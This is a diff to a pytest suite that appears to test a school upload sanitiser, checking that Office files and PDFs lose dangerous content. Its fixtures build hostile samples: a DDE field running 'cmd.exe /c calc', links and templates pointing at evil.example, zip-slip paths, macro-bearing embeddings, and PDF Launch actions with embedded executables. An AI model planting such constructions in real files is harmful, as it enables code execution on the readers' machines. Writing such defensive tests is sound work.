@@ -6,6 +6,7 @@ import zipfile
 import pikepdf
 import pytest
 from django.test import RequestFactory
+from PIL import Image
 
 from core.handed_in import MOST_BYTES, OFFICE, BadFile, read
 from core.middleware import TooLargeMiddleware
@@ -14,6 +15,11 @@ from tests.schools.handing import HTML, SVG, handed_form, office, pdf, picture
 
 RELATION = (
     '<Relationships><Relationship Id="r1" Type="http://schemas.x/{kind}" Target="{to}" TargetMode="External"/></Relationships>'
+)
+
+FIELD = (
+    '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:fldChar/><w:r><w:instrText>{first}'
+    "</w:instrText></w:r><w:r><w:instrText>{second}</w:instrText></w:r><w:fldChar/></w:p></w:hdr>"
 )
 
 
@@ -45,6 +51,65 @@ REFUSED = {
     "zip-slip": (office(**{"../../etc/cron.d/x": b"x"}), "教案.docx", "名称"),
     "a nested archive": (office(**{"word/media/all.zip": office()}), "教案.docx", "压缩包"),
     "entities": (office(**{"word/x.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}), "教案.docx", "实体"),
+    "a macro document within": (office(**{"word/embeddings/a.docm": b"x"}), "教案.docx", "宏"),
+    "macros two levels down": (
+        office(**{"word/embeddings/a.xlsx": office("xl/workbook.xml", **{"xl/vbaProject.bin": b"x"})}),
+        "教案.docx",
+        "宏",
+    ),
+    "macros told in other letters": (
+        office(**{"word/_rels/document.xml.rels": RELATION.format(kind="vba&#80;roject", to="media/a.png")}),
+        "教案.docx",
+        "宏",
+    ),
+    "a page set into the text": (office(**{"word/a.html": HTML}), "教案.docx", "宏"),
+    "a page set into the text by another name": (
+        office(**{"word/_rels/document.xml.rels": RELATION.format(kind="aFChunk", to="a.dat")}),
+        "教案.docx",
+        "宏",
+    ),
+    "a field that starts a program": (
+        office(**{"word/header1.xml": FIELD.format(first="DDE", second='AUTO c:\\windows\\cmd.exe "/c calc"')}),
+        "教案.docx",
+        "别处",
+    ),
+    "a field that fetches a picture": (
+        office(**{"word/header1.xml": FIELD.format(first=" includePicture ", second='"http://evil.example/a.png"')}),
+        "教案.docx",
+        "别处",
+    ),
+    "a table that asks the web": (
+        office("xl/workbook.xml", **{"xl/connections.xml": '<c xmlns="urn:x"><webPr url="http://evil.example/"/></c>'}),
+        "表.xlsx",
+        "别处",
+    ),
+    "a picture from elsewhere behind a bracket": (
+        office(
+            **{
+                "word/_rels/document.xml.rels": '<r><R Id="1" Type="http://schemas.x/image" Target="http://evil.example/?a>b"'
+                ' TargetMode="&#69;xternal"/></r>'
+            }
+        ),
+        "教案.docx",
+        "别处",
+    ),
+    "a template from elsewhere in UTF-16": (
+        office(
+            **{
+                "word/_rels/settings.xml.rels": RELATION.format(kind="attachedTemplate", to="http://evil.example/t").encode(
+                    "utf-16"
+                )
+            }
+        ),
+        "教案.docx",
+        "别处",
+    ),
+    "entities in UTF-16": (
+        office(**{"word/x.xml": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x [<!ENTITY a "b">]><x/>'.encode("utf-16")}),
+        "教案.docx",
+        "实体",
+    ),
+    "a part that is no XML": (office(**{"word/x.xml": b"<x>"}), "教案.docx", "损坏"),
     "a template from elsewhere": (
         office(**{"word/_rels/settings.xml.rels": RELATION.format(kind="attachedTemplate", to="http://evil.example/t.dotm")}),
         "教案.docx",
@@ -79,6 +144,45 @@ def test_a_pdf_keeps_its_pages_and_loses_what_runs():
         assert "/A" not in document.pages[0].Annots[0]
     for word in (b"app.alert", b"calc.exe", b"/Launch"):
         assert word not in made.content
+
+
+def written_in(document):
+    """The same harm where no object of its own holds it: within a page, chained behind a harmless action, on a picture."""
+    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
+    chained = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.gov.cn/"), Next=pikepdf.Array([launch]))
+    square = pikepdf.Array([0, 0, 9, 9])
+    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=square, A=launch)
+    other = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=square, A=chained)
+    enclosed = document.make_stream(b"MZ evil")
+    held = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("a.exe"), EF=pikepdf.Dictionary(F=enclosed))
+    clip = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=square, FS=held)
+    document.pages[0].Annots = pikepdf.Array([link, other, clip])
+    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([]), XFA=document.make_stream(b"<xfa>run()</xfa>"))
+
+
+def test_harm_that_is_written_into_a_page_goes_too():
+    given = pdf(written_in)
+    words = (b"calc.exe", b"/Launch", b"MZ evil", b"run()")
+    assert all(word in plain_bytes(given) for word in words), "the control"
+    made = taken(given, "教案.pdf").content
+    assert not [word for word in words if word in plain_bytes(made)]
+    assert b"https://www.gov.cn/" in plain_bytes(made)
+
+
+def plain_bytes(content):
+    """The PDF with nothing packed."""
+    out = io.BytesIO()
+    with pikepdf.open(io.BytesIO(content)) as document:
+        document.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.generalized)
+    return out.getvalue()
+
+
+def test_a_photograph_of_several_pictures_as_telephones_write_them_is_one_picture():
+    out = io.BytesIO()
+    Image.new("RGB", (30, 20), "navy").save(out, "MPO", save_all=True, append_images=[Image.new("RGB", (30, 20), "red")])
+    made = taken(out.getvalue(), "照片.jpg")
+    assert (made.mime, made.name) == ("image/jpeg", "照片.jpg")
+    assert len(made.content) < len(out.getvalue())
 
 
 POLYGLOTS = {
